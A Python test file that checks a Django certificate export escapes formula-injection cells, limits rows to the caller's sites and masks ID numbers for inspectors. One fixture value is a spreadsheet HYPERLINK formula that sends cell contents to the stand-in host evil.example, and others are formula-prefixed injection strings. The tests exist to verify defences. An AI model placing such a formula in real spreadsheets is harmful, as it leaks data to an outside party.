"""The certificate export: the caller's visible certificates with their status, cells escaped
against formula injection, ID numbers as the caller may see them."""

import datetime as dt
import io
import zipfile

import pytest
from django.core.management import call_command
from django.test import Client, TestCase
from openpyxl import load_workbook

from safework.accounts.models import Role, RoleGrant, User
from safework.certs.tests.factories import CertificateFactory, item
from safework.core import tabular, xlsx
from safework.org.tests.factories import DepartmentFactory, SiteFactory
from safework.people.tests.factories import EmploymentFactory, PersonFactory

URL = "/api/v1/exports/certificates"
ON = "2026-03-02"
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def client_for(username, role, **where):
    user = User.objects.create(username=username)
    RoleGrant.objects.create(user=user, role=role, **where)
    client = Client(headers={"accept-language": "en"})  # headers as English msgids
    client.force_login(user)
    return client


@pytest.fixture
def certificates(db, catalogue):
    site_a, site_b = SiteFactory(), SiteFactory()
    dept = DepartmentFactory(site=site_a, name="车间甲")
    evil = EmploymentFactory(department=dept, person=PersonFactory(name=EVIL_NAME)).person
    CertificateFactory(
        person=evil,
        item=item("special_operation", "2.1"),
        number="+86-1234",
        restriction="",
        issuing_authority="@SUM(1+1)",
        issued_on=dt.date(2023, 5, 10),
        valid_until=dt.date(2029, 5, 9),
    )
    plain = EmploymentFactory(department=dept).person
    CertificateFactory(
        person=plain,
        item=item("special_equipment", "N1"),
        number="\t-cmd",
        issued_on=dt.date(2021, 1, 10),
        valid_until=dt.date(2025, 1, 9),
        verification="verified",
    )
    other_site = EmploymentFactory(department=DepartmentFactory(site=site_b)).person
    CertificateFactory(person=other_site, item=item("special_operation", "1.2"), number="B-1")
    return {"site_a": site_a, "site_b": site_b, "evil": evil, "plain": plain}


class Exported:
    """What the job flow ends with: the job's answers and the downloaded file."""

    def __init__(self, created, job=None, file=None):
        self.created, self.job, self.file = created, job, file
        self.status_code = created.status_code
        self.content = file.getvalue() if file is not None else b""  # read: then closed


def export(client, **query) -> Exported:
    """POST the export (202 with a job; the task runs inline), poll the job, download the file."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        created = client.post(URL, query, content_type="application/json")
    if created.status_code != 202:
        return Exported(created)
    job = client.get(f"/api/v1/report-jobs/{created.json()['id']}").json()
    assert job["status"] == "succeeded", job
    return Exported(created, job, client.get(job["file_url"]))


def rows_of(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


@pytest.mark.django_db
def test_cells_that_start_like_formulas_are_escaped(certificates):
    response = export(client_for("admin", Role.ADMINISTRATOR), on=ON)
    assert response.status_code == 202
    assert response.job["progress"] == 1.0 and response.job["total"] == 3
    assert 'filename="certificates-2026-03-02.xlsx"' in response.file["Content-Disposition"]
    rows = rows_of(response.content)
    header, data = rows[0], rows[1:]
    assert len(data) == 3
    by_number = {r[header.index("certificate number")]: r for r in data}
    evil = by_number["'+86-1234"]
    assert evil[header.index("name")] == "'" + EVIL_NAME
    assert evil[header.index("issuing authority")] == "'@SUM(1+1)"
    assert "'\t-cmd" in by_number
    # no cell of the workbook is a formula
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert tabular._formula_cells(archive, "xl/worksheets/sheet1.xml") == set()
    # statuses on the date asked
    status = header.index("status")
    assert by_number["'\t-cmd"][status] == "expired"
    assert evil[status] == "unverified" and evil[header.index("usable")] == "yes"
    # Order 30's 3-yearly review, due before 2026-06-01
    assert evil[header.index("next review due")].date() == dt.date(2026, 5, 10)


@pytest.mark.django_db
def test_the_export_holds_what_the_caller_sees(certificates):
    officer = client_for("officer", Role.SAFETY_OFFICER, site=certificates["site_a"])
    rows = rows_of(export(officer, on=ON).content)
    header = rows[0]
    numbers = {r[header.index("certificate number")] for r in rows[1:]}
    assert numbers == {"'+86-1234", "'\t-cmd"}  # not site B's certificate
    full = certificates["plain"].id_number
    assert full in {r[header.index("ID number")] for r in rows[1:]}

    inspector = client_for("inspector", Role.INSPECTOR)
    rows = rows_of(export(inspector, on=ON, scheme="special_equipment").content)
    assert len(rows) == 2
    assert rows[1][rows[0].index("ID number")] == full[:6] + "********" + full[-4:]

    response = export(officer, site_id=certificates["site_b"].pk)
    assert response.status_code == 422  # a site outside the caller's scope


def test_safe_escapes_every_formula_prefix():
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert xlsx.safe(text) == "'" + text
    assert xlsx.safe("plain 文字") == "plain 文字"
    assert xlsx.safe("a\x00b\x1fc") == "abc"
    assert xlsx.safe(12) == 12 and xlsx.safe(None) is None
    assert xlsx.csv_bytes(["h"], [["=1+1"]]).decode("utf-8") == "\ufeffh\r\n'=1+1\r\n"


@pytest.mark.django_db
def test_export_command(certificates, tmp_path):
    out = tmp_path / "all.xlsx"
    call_command("export_certificates", "--out", str(out), "--on", ON, verbosity=0)
    rows = rows_of(out.read_bytes())
    assert len(rows) == 4


@pytest.mark.django_db
def test_a_number_equal_to_the_id_number_is_masked_for_an_inspector(certificates):
    holder = certificates["plain"]
    CertificateFactory(
        person=holder,
        item=item("special_operation", "2.1"),
        number=holder.id_number,
        valid_until=dt.date(2029, 5, 9),
    )
    site = {"site": certificates["site_a"]}
    masked = export(client_for("inspector", Role.INSPECTOR, **site), on=ON)
    assert masked.status_code == 202
    cells = [c for row in rows_of(masked.content) for c in row if isinstance(c, str)]
    assert not any(holder.id_number in c for c in cells)
    assert cells.count(holder.id_number[:6] + "********" + holder.id_number[-4:]) >= 2

    full = export(client_for("officer", Role.SAFETY_OFFICER, **site), on=ON)
    number_col = rows_of(full.content)[0].index("certificate number")
    assert holder.id_number in [row[number_col] for row in rows_of(full.content)]
